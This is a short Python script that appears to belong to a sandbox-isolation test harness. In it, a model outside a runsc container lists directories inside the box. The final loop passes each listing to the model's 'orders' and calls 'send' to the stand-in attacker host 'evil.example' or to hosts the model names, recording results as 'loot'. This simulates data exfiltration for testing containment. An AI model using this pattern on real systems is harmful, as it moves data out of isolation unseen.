"""lister.py [HOLDFAST RUN OPTIONS... --] env ...: a model outside of the box, whose tool lists directories in it."""
import os
import subprocess
import sys

arena = os.environ["ARENA"]
sys.path.insert(0, os.path.join(arena, "ws/.attack"))
from model import orders, send
from rows import SLOWNESS, mark, note

with open(os.path.join(arena, "scripts/rows.tsv")) as table:
    rows = [line.split("\t")[0] for line in table if line.split("\t")[1] == "tool"]
for row in rows:
    # Not `ls`: runsc of 2022 does not know how that asks for a directory.
    tool = [*sys.argv[1 : sys.argv.index("env")], "sh", "-c", 'cd "$0" && printf "%s\\n" *', f"listed/{row}"]
    listing = subprocess.run(tool, cwd=os.path.join(arena, "ws"), capture_output=True, timeout=9 * SLOWNESS).stdout.decode(errors="replace")
    if not listing:
        # A tool that says nothing protects from nothing.
        note("loot", mark(row) + "\n")
    for host in orders(listing):
        send("evil.example" if host == "e" else host, mark(row))
